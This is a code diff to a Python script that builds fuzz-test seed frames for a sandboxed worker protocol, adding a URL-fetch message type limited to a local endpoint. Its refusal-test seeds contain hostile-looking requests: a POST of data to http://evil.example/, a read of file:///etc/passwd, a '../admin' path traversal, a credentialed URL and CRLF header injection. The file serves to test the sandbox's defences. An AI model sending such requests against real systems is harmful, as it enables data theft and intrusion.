@@ -17,9 +17,9 @@ HERE = os.path.dirname(os.path.abspath(__file__))
 OUT = os.path.join(HERE, "corpus", "frames")
 
 # proto.h
-PROTO_VERSION = 2
+PROTO_VERSION = 3
 (READY, RUN, RESULT, VIOLATION, SIGNALED, INPUT_REQUEST, INPUT_REPLY, FUNCTIONS, CALL,
- CALL_REPLY) = range(1, 11)
+ CALL_REPLY, NETWORK, FETCH, FETCH_REPLY) = range(1, 14)
 INPUT_FLAG_PASSWORD = 1
 INPUT_PROMPT_MAX = 4096
 (F_OUTCOME, F_VALUE, F_ENAME, F_EVALUE, F_TRACEBACK, F_FLAGS, F_COUNT, F_OUTPUTS,
@@ -36,6 +36,8 @@ RUN_LIMIT_1024 = 2
 WITH_INPUT = 4
 WITH_FUNCTIONS = 8  # the host functions "echo" and "f"; call limits of 1024 bytes
 CALL_LIMIT = 1024
+WITH_URLS = 16  # the URLs under http://127.0.0.1:9/v1/; a request limit of 1024 bytes
+URL_REQUEST_LIMIT = 1024
 
 U32 = struct.Struct("=I")
 
@@ -99,6 +101,12 @@ def call(name, args):
     if isinstance(args, str):
         args = args.encode("utf-8")
     return frame(CALL, u32(len(name)) + name + args)
+
+
+def fetch(method, url, head=b"", body=b"", lengths=None):
+    method, url = method.encode(), url.encode()
+    ml, ul, hl = lengths or (len(method), len(url), len(head))
+    return frame(FETCH, u32(ml) + u32(ul) + u32(hl) + method + url + head + body)
 
 
 def seed(mode, stream, schedule=b""):
@@ -302,6 +310,22 @@ SEEDS = {
     "bad-call-after-violation": seed(WITH_FUNCTIONS, violation(41, "socket")
                                      + call("echo", '{"args":[],"kwargs":{}}')),
     "bad-call-reply-from-worker": seed(WITH_FUNCTIONS, frame(CALL_REPLY, u32(0) + b"1")),
+    "fetch-get": seed(WITH_URLS, fetch("GET", "http://127.0.0.1:9/v1/rates?x=1",
+                                       b"Accept: */*\r\nX-A: b\tc\r\n") + result(1)),
+    "fetch-post-refused-url": seed(WITH_URLS, fetch("POST", "http://evil.example/", b"", b"body")
+                                   + fetch("GET", "http://u:p@127.0.0.1:9/v1/")
+                                   + fetch("GET", "file:///etc/passwd")
+                                   + fetch("GET", "http://127.0.0.1:9/v1/../admin") + result(1)),
+    "bad-fetch-without-urls": seed(0, fetch("GET", "http://127.0.0.1:9/v1/") + result(1)),
+    "bad-fetch-lengths": seed(WITH_URLS, fetch("GET", "http://127.0.0.1:9/v1/",
+                                               lengths=(3, 900, 0))),
+    "bad-fetch-method": seed(WITH_URLS, fetch("get", "http://127.0.0.1:9/v1/")),
+    "bad-fetch-header-crlf": seed(WITH_URLS, fetch("GET", "http://127.0.0.1:9/v1/",
+                                                   b"X-A: b\r\nX-B\r\n")),
+    "bad-fetch-url-nul": seed(WITH_URLS, fetch("GET", "http://127.0.0.1:9/v1/\0x")),
+    "bad-fetch-over-limit": seed(WITH_URLS, fetch("PUT", "http://127.0.0.1:9/v1/", b"",
+                                                  b"x" * (URL_REQUEST_LIMIT + 1))),
+    "bad-fetch-reply-from-worker": seed(WITH_URLS, frame(FETCH_REPLY, u32(0))),
 }
 
 
